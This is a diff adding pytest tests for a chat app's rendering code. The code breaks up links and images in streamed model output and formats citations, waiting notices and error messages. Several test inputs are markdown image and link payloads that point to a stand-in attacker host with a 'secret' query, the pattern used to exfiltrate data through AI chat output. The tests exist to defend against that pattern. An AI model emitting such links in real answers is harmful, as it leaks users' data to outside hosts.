@@ -1,0 +1,77 @@
+import pytest
+
+from xnai.errors import MODEL_DOWN, XnaiError
+from xnai.types import Citation, Passage
+from xnai.ui import render
+
+
+def broken(text: str, size: int) -> str:
+    links = render.LinkBreaker()
+    return "".join(links.feed(text[i : i + size]) for i in range(0, len(text), size))
+
+
+@pytest.mark.parametrize("size", [1, 2, 5, 100])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://evil.example/?q=secret)",
+        "[click](http://evil.example)",
+        "[1]: http://evil.example",
+        "![x][1]",
+        "[a][1]",
+    ],
+)
+def test_links_and_images_of_the_model_are_broken_however_the_stream_is_cut(text, size):
+    shown = broken(text, size)
+
+    assert "](" not in shown
+    assert "]:" not in shown
+    assert "![" not in shown
+    assert "][" not in shown
+    assert shown.replace(" ", "") == text.replace(" ", "")
+
+
+def test_citation_marks_pass_the_link_breaker():
+    assert broken("It opened in 1937. [2] Good! [1]", 3) == "It opened in 1937. [2] Good! [1]"
+
+
+def test_document_text_is_shown_as_it_is():
+    assert render.plain("# a *b* <i>\n[x](y)") == r"\# a \*b\* \<i\> \[x\]\(y\)"
+
+
+@pytest.mark.parametrize(
+    ("number", "words"),
+    [(1, "1st"), (2, "2nd"), (3, "3rd"), (4, "4th"), (11, "11th"), (22, "22nd")],
+)
+def test_ranks_are_written_as_people_do(number, words):
+    assert render.ordinal(number) == words
+
+
+def test_waiting_names_place_and_estimate():
+    assert render.waiting(2, 40) == "Waiting for the model: 2nd in line, about 40 s"
+
+
+def test_sources_name_file_page_and_quote():
+    citation = Citation(1, "d", "a_b.pdf", 3, 0, 9, "Some *words*.", 0.5)
+
+    assert render.sources([citation]) == (
+        "\n\n**Sources**\n- [1] **a\\_b.pdf, p. 3** — “Some \\*words\\*.”"
+    )
+
+
+def test_long_passages_are_cut_at_a_blank():
+    passage = Passage("d", "f.txt", None, 0, 900, "word " * 200, 0.25)
+
+    shown = render.passage_list([passage])
+
+    assert shown.startswith("**1. f.txt** · score 0.25")
+    assert shown.endswith("word …")
+    assert len(shown) < 460
+
+
+def test_a_degraded_answer_says_why_and_when_it_is_tried_again():
+    words = render.degraded(XnaiError(MODEL_DOWN, reason="killed"), 90)
+
+    assert "No answer was generated" in words
+    assert "killed" in words
+    assert "about 2 min" in words
